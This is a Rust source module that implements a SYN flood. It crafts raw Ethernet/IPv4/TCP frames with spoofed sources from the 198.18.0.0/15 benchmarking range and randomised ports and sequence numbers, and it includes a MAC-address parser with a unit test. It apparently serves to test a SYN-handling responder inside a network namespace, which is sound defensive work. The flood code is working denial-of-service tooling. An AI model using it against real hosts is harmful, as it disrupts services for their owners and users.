//! A SYN flood over IPv4: SYNs from sources that do not exist, each from another one (RFC 4987, 2).

use crate::{
    packet_socket::PacketSocket,
    responder::{checksum, checksum_words},
};
use std::{io, net::SocketAddrV4};

/// Spoofed sources come from 198.18.0.0/15, which is nobody's (RFC 2544).
const SOURCES: u32 = 0xc612_0000;
const SOURCES_LEN: u32 = 1 << 17;

/// Ethernet, IPv4, TCP, and the option with the segment size.
const FRAME_LEN: usize = 14 + 20 + 24;

/// A source of SYNs.
pub struct SynFlood {
    socket: PacketSocket,
    frame: [u8; FRAME_LEN],
    random: u64,
    sent: u64,
}

impl SynFlood {
    /// A flood of `target` by an interface of this thread's network namespace, from and to these Ethernet addresses.
    /// The sources follow from `seed`.
    ///
    /// # Errors
    /// What opening the socket answered.
    pub fn open(interface: &str, from: [u8; 6], to: [u8; 6], target: SocketAddrV4, seed: u64) -> io::Result<SynFlood> {
        let mut frame = [0; FRAME_LEN];
        frame[..6].copy_from_slice(&to);
        frame[6..12].copy_from_slice(&from);
        frame[12..14].copy_from_slice(&[0x08, 0x00]);
        let (ip, tcp) = frame[14..].split_at_mut(20);
        ip[0] = 0x45;
        ip[3] = (FRAME_LEN - 14) as u8;
        (ip[8], ip[9]) = (64, libc::IPPROTO_TCP as u8);
        ip[16..20].copy_from_slice(&target.ip().octets());
        tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
        (tcp[12], tcp[13]) = (6 << 4, 0x02);
        tcp[14..16].copy_from_slice(&[0xff, 0xff]);
        tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
        Ok(SynFlood { socket: PacketSocket::open(interface)?, frame, random: seed, sent: 0 })
    }

    /// Sends so many.
    ///
    /// # Errors
    /// What send(2) answered.
    pub fn send(&mut self, count: u32) -> io::Result<()> {
        for _ in 0..count {
            // Knuth's MMIX generator; its high bits are good.
            self.random = self.random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            let [source, seq] = [(self.random >> 47) as u32 % SOURCES_LEN, (self.random >> 24) as u32];
            let (ip, tcp) = self.frame[14..].split_at_mut(20);
            ip[12..16].copy_from_slice(&(SOURCES + source).to_be_bytes());
            ip[10..12].fill(0);
            let sum = checksum(checksum_words(ip));
            ip[10..12].copy_from_slice(&sum.to_be_bytes());
            tcp[..2].copy_from_slice(&(1024 + (seq >> 17) as u16).to_be_bytes());
            tcp[4..8].copy_from_slice(&seq.to_be_bytes());
            tcp[16..18].fill(0);
            let pseudo_header = checksum_words(&ip[12..]) + libc::IPPROTO_TCP as u32 + tcp.len() as u32;
            let sum = checksum(checksum_words(tcp) + pseudo_header);
            tcp[16..18].copy_from_slice(&sum.to_be_bytes());
            self.socket.send(&self.frame)?;
            self.sent += 1;
        }
        Ok(())
    }

    /// How many it has sent.
    pub fn sent(&self) -> u64 {
        self.sent
    }
}

/// Reads an Ethernet address as sysfs has it.
///
/// # Errors
/// A sentence when it is none.
pub fn parse_address(text: &str) -> Result<[u8; 6], String> {
    let bytes: Result<Vec<u8>, _> = text.trim().split(':').map(|byte| u8::from_str_radix(byte, 16)).collect();
    let wrong = || format!("{text}: an Ethernet address looks like 02:00:00:00:00:01");
    bytes.map_err(|_| wrong())?.try_into().map_err(|_| wrong())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ethernet_addresses() {
        assert_eq!(parse_address("02:00:00:00:00:ff\n"), Ok([2, 0, 0, 0, 0, 255]));
        assert!(parse_address("02:00").is_err());
        assert!(parse_address("x").is_err());
    }
}
